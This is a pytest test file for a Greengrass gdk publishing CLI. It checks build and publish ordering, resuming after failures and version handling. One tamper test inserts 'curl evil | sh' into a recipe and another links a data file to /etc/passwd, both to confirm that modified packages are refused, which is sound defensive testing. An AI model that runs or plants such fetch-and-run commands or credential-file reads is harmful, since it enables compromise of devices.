"""sluice publish: one gdk project after the other, with a gdk that notes how it was started and does as it is told."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner, Result

import cli.cloud
import cli.publish
from cli.cloud import CloudError
from cli.output import Failure
from cli.publish import Project, Publisher, State, find_gdk
from cli.suite import RUNTIME, members
from cli.tag_package import stage

REGION = "eu-central-1"
COLLECTOR = "io.sluice.OpcUaCollector"

GDK = f"""#!{sys.executable}
import json, os, pathlib, sys
home = pathlib.Path(__file__).parent
if sys.argv[1:] == ["--version"]:
    print((home / "version").read_text())
    sys.exit()
config = json.loads(pathlib.Path("gdk-config.json").read_text())
[(name, entry)] = config["component"].items()
call = {{"arguments": sys.argv[1:], "cwd": os.getcwd(), "component": name, "region": os.environ.get("AWS_REGION"),
        "proxy": os.environ.get("HTTPS_PROXY"), "profile": os.environ.get("AWS_PROFILE"), "publish": entry["publish"]}}
with open(home / "calls", "a") as file:
    file.write(json.dumps(call) + "\\n")
step = sys.argv[2]
told = json.loads((home / "told").read_text()).get(f"{{name}} {{step}}")
if told:
    print(told)
    sys.exit(1)
if step == "build":
    for folder in ("recipes", f"artifacts/{{name}}/{{entry['version']}}"):
        pathlib.Path("greengrass-build", folder).mkdir(parents=True, exist_ok=True)
"""


class Gdk:
    """The gdk on PATH: what it was asked, and what it fails with."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.path = folder / "gdk"
        self.path.write_text(GDK)
        self.path.chmod(0o755)
        (folder / "version").write_text("gdk 1.6.2")
        self.fails()

    def fails(self, **steps: str) -> None:
        """What it says when it fails, by "<component> <step>"."""
        (self.folder / "told").write_text(json.dumps(steps))

    @property
    def calls(self) -> list[dict[str, Any]]:
        path = self.folder / "calls"
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    @property
    def steps(self) -> list[tuple[str, str]]:
        return [(call["component"], call["arguments"][1]) for call in self.calls]


class Account:
    """An account that says which versions it has."""

    region = REGION

    def __init__(self, *has: str) -> None:
        self.has = set(has)
        self.asked: list[str] = []

    def account(self) -> str:
        return "123456789012"

    def versions(self, arn: str) -> list[str]:
        self.asked.append(arn)
        name = arn.rpartition(":")[2]
        return [one.rpartition(" ")[2] for one in self.has if one.startswith(f"{name} ")]


@pytest.fixture
def gdk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Gdk:
    folder = tmp_path / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", str(folder), prepend=os.pathsep)
    return Gdk(folder)


@pytest.fixture
def account(monkeypatch: pytest.MonkeyPatch) -> Account:
    made = Account()
    monkeypatch.setattr(cli.cloud, "connect", lambda region, profile: made)
    return made


def staged(folder: Path, name: str, version: str = "1.0.3") -> Path:
    """A gdk project as `sluice tags package --stage` writes one."""
    folder.mkdir(parents=True, exist_ok=True)
    entry = {"version": version, "publish": {"bucket": "b", "region": REGION}}
    (folder / "gdk-config.json").write_text(json.dumps({"component": {name: entry}}))
    return folder


def run(*arguments: str, work: Path) -> Result:
    app = typer.Typer(pretty_exceptions_enable=False)
    cli.publish.register(app)
    return CliRunner().invoke(app, ["--work", str(work), *arguments])


def publisher(gdk: Gdk, account: Account, work: Path, **more: Any) -> Publisher:
    made: Any = account
    return Publisher(made, str(gdk.path), work, environment=dict(os.environ), **more)


def projects(tmp_path: Path, *names: str) -> list[Project]:
    return [Project(name, "1.0.3", staged(tmp_path / "projects" / name, name)) for name in names]


def ignore(progress: str) -> None:
    """Progress that nobody watches."""


# --- how gdk is run -------------------------------------------------------------------------------------------------


def test_a_component_is_staged_built_and_published_in_a_project_of_its_own(
    gdk: Gdk, account: Account, tmp_path: Path
) -> None:
    work = tmp_path / "work"
    result = run("--component", COLLECTOR, "--bucket", "plant-artifacts", "--profile", "line", "--json", work=work)
    assert result.exit_code == 0, result.exception
    build, publish = gdk.calls
    assert build["arguments"] == ["component", "build"]
    assert publish["arguments"] == ["component", "publish", "--region", REGION]
    assert build["cwd"] == publish["cwd"] == str(work / COLLECTOR)
    assert publish["publish"] == {"bucket": "plant-artifacts", "region": REGION}
    assert (publish["region"], publish["profile"]) == (REGION, "line")
    # gdk asks GitHub at every start, and waits without a limit: a build needs no network, publishing does.
    assert build["proxy"] == "http://127.0.0.1:1"
    assert publish["proxy"] != build["proxy"]
    told = json.loads(result.stdout)
    version = members()[COLLECTOR].version
    assert told["components"] == [{"component": COLLECTOR, "version": version, "outcome": "published"}]
    assert account.asked == [f"arn:aws:greengrass:{REGION}:123456789012:components:{COLLECTOR}"]


def test_the_runtime_comes_first_and_tag_packages_last(gdk: Gdk, tmp_path: Path) -> None:
    found = cli.publish._members(None)
    assert found[0].name == RUNTIME
    assert {project.name for project in found} == set(members())
    assert [project.name for project in found[1:]] == sorted(project.name for project in found[1:])


def test_tag_packages_are_published_from_where_they_were_staged(gdk: Gdk, account: Account, tmp_path: Path) -> None:
    folder = tmp_path / "packages"
    staged_tags(folder / "a", "io.sluice.Tags.site-a")
    staged_tags(folder / "b", "io.sluice.Tags.site-b")
    found = cli.publish._tag_projects([folder])
    results = publisher(gdk, account, tmp_path / "work").run(found, ignore)
    assert [one.name for one in results] == ["io.sluice.Tags.site-a", "io.sluice.Tags.site-b"]
    assert {call["cwd"] for call in gdk.calls} == {str(folder / "a"), str(folder / "b")}


def staged_tags(project: Path, name: str) -> Path:
    stage(b"tag,node\nT1,ns=2;s=T1\n", name, None, project, None, None)
    return project


def a_command(project: Path) -> None:
    path = project / "gdk-config.json"
    path.write_text(path.read_text().replace('"cp"', '"sh"'))


def another_name(project: Path) -> None:
    path = project / "gdk-config.json"
    path.write_text(path.read_text().replace("io.sluice.Tags.site-a", "com.acme.Camera"))


def a_script(project: Path) -> None:
    path = project / "built" / "recipes" / "recipe.yaml"
    path.write_text(path.read_text().replace("cp -f", "curl evil | sh; cp -f"))


def a_file(project: Path) -> None:
    (project / "built" / "artifacts" / "more").write_text("x")


def a_link(project: Path) -> None:
    [table] = project.rglob("tags.csv")
    table.unlink()
    table.symlink_to("/etc/passwd")


@pytest.mark.parametrize("change", [a_command, another_name, a_script, a_file, a_link])
def test_a_package_that_somebody_changed_is_neither_run_nor_published(
    tmp_path: Path, change: Callable[[Path], None]
) -> None:
    """gdk runs the build command of a project, and devices the steps of its recipe."""
    change(staged_tags(tmp_path / "a", "io.sluice.Tags.site-a"))
    with pytest.raises(Failure, match="is not as `sluice tags package --stage` leaves a package"):
        cli.publish._tag_projects([tmp_path])


def test_a_folder_without_a_staged_package_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Failure, match=r"no gdk-config\.json in it or one below: stage a package there"):
        cli.publish._tag_projects([tmp_path])
    (tmp_path / "gdk-config.json").write_text("{}")
    with pytest.raises(Failure, match="is not the configuration of one component"):
        cli.publish._tag_projects([tmp_path])


def test_an_unknown_component_is_refused(gdk: Gdk, account: Account, tmp_path: Path) -> None:
    result = run("--component", "io.sluice.Nothing", work=tmp_path / "work")
    assert "there is no such component; there are io.sluice.OpcUaCollector" in str(result.exception)


# --- what the account has -------------------------------------------------------------------------------------------


def test_what_the_account_has_is_left_as_it_is(gdk: Gdk, tmp_path: Path) -> None:
    account = Account("a 1.0.3", "b 1.0.2")
    results = publisher(gdk, account, tmp_path / "work").run(projects(tmp_path, "a", "b"), ignore)
    assert [one.outcome for one in results] == ["there", "published"]
    assert "to publish a change raise the version" in results[0].words
    assert {name for name, _ in gdk.steps} == {"b"}


def test_a_version_that_somebody_else_published_meanwhile_is_there(gdk: Gdk, account: Account, tmp_path: Path) -> None:
    gdk.fails(
        **{
            "a publish": "An error occurred (ConflictException) when calling the CreateComponentVersion operation: "
            "Component [a : 1.0.3] for account [123456789012] already exists with state: [DEPLOYABLE]"
        }
    )
    results = publisher(gdk, account, tmp_path / "work").run(projects(tmp_path, "a"), ignore)
    assert [one.outcome for one in results] == ["there"]


def test_without_the_permission_to_look_nothing_is_published(gdk: Gdk, tmp_path: Path) -> None:
    """gdk uploads before it asks whether the version exists: it would replace artifacts under their digests."""

    class Closed(Account):
        def versions(self, arn: str) -> list[str]:
            raise CloudError("the credentials may not do greengrass:ListComponentVersions")

    with pytest.raises(CloudError, match="ListComponentVersions"):
        publisher(gdk, Closed(), tmp_path / "work").run(projects(tmp_path, "a"), ignore)
    assert gdk.calls == []


# --- failing, and going on ------------------------------------------------------------------------------------------


def test_a_failure_in_the_middle_shows_the_end_of_gdks_output_and_a_resumed_run_goes_on_there(
    gdk: Gdk, account: Account, tmp_path: Path
) -> None:
    work = tmp_path / "work"
    wanted = projects(tmp_path, "a", "b", "c")
    gdk.fails(**{"b publish": "An error occurred (AccessDenied) when calling the PutObject operation"})
    with pytest.raises(Failure) as caught:
        publisher(gdk, account, work).run(wanted, ignore)
    assert "gdk component publish ended with status 1" in str(caught.value)
    assert "(AccessDenied) when calling the PutObject operation" in str(caught.value)
    assert "Done before it: a 1.0.3" in str(caught.value)
    assert caught.value.status == 3
    assert "PutObject" in (work / "b.log").read_text()
    before = len(gdk.calls)
    gdk.fails()
    results = publisher(gdk, account, work, resume=True).run(wanted, ignore)
    assert [one.outcome for one in results] == ["published"] * 3
    assert results[0].words.startswith("was published 2")
    assert gdk.steps[before:] == [("b", "build"), ("b", "publish"), ("c", "build"), ("c", "publish")]


def test_a_resumed_run_does_not_stage_again(gdk: Gdk, account: Account, tmp_path: Path) -> None:
    work = tmp_path / "work"
    wanted = [Project(COLLECTOR, members()[COLLECTOR].version)]
    gdk.fails(**{f"{COLLECTOR} publish": "the network was away"})
    with pytest.raises(Failure, match="the network was away"):
        publisher(gdk, account, work).run(wanted, ignore)
    mark = work / COLLECTOR / "mark"
    mark.touch()
    gdk.fails()
    publisher(gdk, account, work, resume=True).run(wanted, ignore)
    assert mark.exists()


def test_a_project_of_another_version_is_not_resumed(gdk: Gdk, account: Account, tmp_path: Path) -> None:
    work = tmp_path / "work"
    staged(work / COLLECTOR, COLLECTOR, "0.0.1")
    with pytest.raises(Failure, match=r"holds io\.sluice\.OpcUaCollector 0\.0\.1, not .*delete the folder"):
        publisher(gdk, account, work, resume=True).run([Project(COLLECTOR, members()[COLLECTOR].version)], ignore)
    assert gdk.calls == []


def test_a_build_that_fails_is_told_with_its_step(gdk: Gdk, account: Account, tmp_path: Path) -> None:
    gdk.fails(**{"a build": "recipe is too large\n" + "x\n" * 100})
    with pytest.raises(Failure, match="gdk component build ended with status 1") as caught:
        publisher(gdk, account, tmp_path / "work").run(projects(tmp_path, "a"), ignore)
    assert str(caught.value).count("\n") < 40  # the end of it, and where all of it is
    assert "recipe is too large" in (tmp_path / "work" / "a.log").read_text()


def test_another_account_or_region_has_a_state_of_its_own(gdk: Gdk, tmp_path: Path) -> None:
    work = tmp_path / "work"
    publisher(gdk, Account(), work).run(projects(tmp_path, "a"), ignore)
    other = Account()
    other.region = "us-east-1"
    results = publisher(gdk, other, work, resume=True).run(projects(tmp_path, "a"), ignore)
    assert results[0].words == "published"


def test_a_state_file_that_is_something_else_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "publish.json"
    path.write_text("[]")
    with pytest.raises(Failure, match="delete it; the account knows what it has"):
        State.read(path)
    path.unlink()
    assert State.read(path).published == {}


# --- which gdk ------------------------------------------------------------------------------------------------------


def test_without_gdk_the_official_one_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(Failure, match=r"gdk was not found.*aws-greengrass-gdk-cli\.git@v1\.6\.2.*is another project"):
        find_gdk("gdk")


@pytest.mark.parametrize("version", ["gdk 0.1", "usage: gdk", "gdk 1.5.0"])
def test_another_program_of_that_name_is_not_run(gdk: Gdk, version: str) -> None:
    (gdk.folder / "version").write_text(version)
    with pytest.raises(Failure, match=r"is no gdk 1\.6\.2 or newer"):
        find_gdk("gdk")


def test_the_official_gdk_is_found_on_path_or_where_it_is_said_to_be(gdk: Gdk) -> None:
    find: Callable[[str], str] = find_gdk
    assert find("gdk") == find(str(gdk.path)) == str(gdk.path)
